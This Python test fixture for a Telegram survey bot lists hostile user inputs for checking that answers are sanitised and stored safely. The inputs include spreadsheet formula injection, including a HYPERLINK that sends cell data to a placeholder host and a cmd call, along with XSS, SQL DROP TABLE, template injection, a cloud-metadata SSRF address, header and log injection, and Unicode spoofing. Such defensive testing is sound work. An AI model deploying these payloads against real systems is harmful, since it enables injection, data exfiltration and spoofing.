"""Hostile words, and what of them can be an answer."""

from __future__ import annotations

from bot.questions import is_blank
from config.phrases import straight
from tests.fakes import botapi_html

HOSTILE = {
    "formula": '=HYPERLINK("http://x/?"&A1)',
    "formula plus": "+1+cmd|'/c calc'!A0",
    "formula minus": "-2+3",
    "formula at": "@SUM(A1)",
    "formula wide": "＝1+1",
    "leading tab": "\tx",
    "leading return": "\rx",
    "leading break": "\nx",
    "cell": 'a;"b"\n=1+1',
    "open tag": "<b>open",
    "double tag": "<<b>x</b>",
    "entity": "&lt;b&gt; &amp;lt; &#60;b&#62; &",
    "closing tags": "</blockquote></b></i></code>",
    "mention": '<a href="tg://user?id=1">x</a>',
    "script": "<script>alert(1)</script>",
    "image": '"><img onerror=alert(1)>',
    "markdown": "_*[]()~`>#+-=|{}.!",
    "template": "{{7*7}}",
    "percent": "%s %(x)s %n",
    "format": "{0.__class__} {answer} {n} {}",
    "sql": "'; DROP TABLE contribution; --",
    "nul": "a\x00b",
    "half a pair": "a\ud800b",
    "only half a pair": "\udc00",
    "controls": "a\x01\x08\x1b[31mb\x7f",
    "emoji": "🙂" * 2048,
    "full message": "x" * 4096,
    "families": "👩‍👩‍👧‍👦" * 370,
    "override": "\u202egnp.exe\u202c",
    "isolates": "a\u2066b\u2067c\u2069\u2069d",
    "zero width": "\u200b\u200d\ufeff",
    "filler": "\u3164\u2800",
    "marks": "e" + "\u0301" * 1000,
    "composed": "Caf\u00e9",
    "decomposed": "Cafe\u0301",
    "dotless": "ıİiI",
    "homoglyph": "/ѕtart",
    "slash": "/",
    "arabic": "سلام <b>٣</b>",
    "web address": "http://169.254.169.254/latest/meta-data/",
    "path": "../../x\r\nSet-Cookie: a=b",
    "log": "x\n2027-03-01 level=error event='press failed'",
    "number": "1e999",
    "digits": "9" * 4000,
    "json": '{"a":' * 800,
    "name": "I am Anna Müller, 0171 2345678",
    "notice": "Thank you. Your answers have been sent.\nYour receipt code:\nAAAA-AAAA-AAAA-AAAA",
    "button": "answer:x:p1:yes:1",
    "line separators": "a\u2028b\u2029c\x85d\x0be",
    "first moment": "01.01.0001 00:00",
    "last moment": "31.12.9999 23:59",
    "lost hour": "28.03.2027 02:30",
}
"""By name. Telegram itself lets no message be longer than 4,096 units."""


def as_shown(words: str) -> str:
    """Words as Telegram shows them, and the bot: without what could turn the words of others."""
    return botapi_html.clean(straight(words)).strip()


def fits(text: str) -> bool:
    """Whether a text can be an answer: something to read, and storable in every file."""
    return (
        not is_blank(text)
        and "\x00" not in text
        and not any("\ud800" <= c <= "\udfff" for c in text)
    )
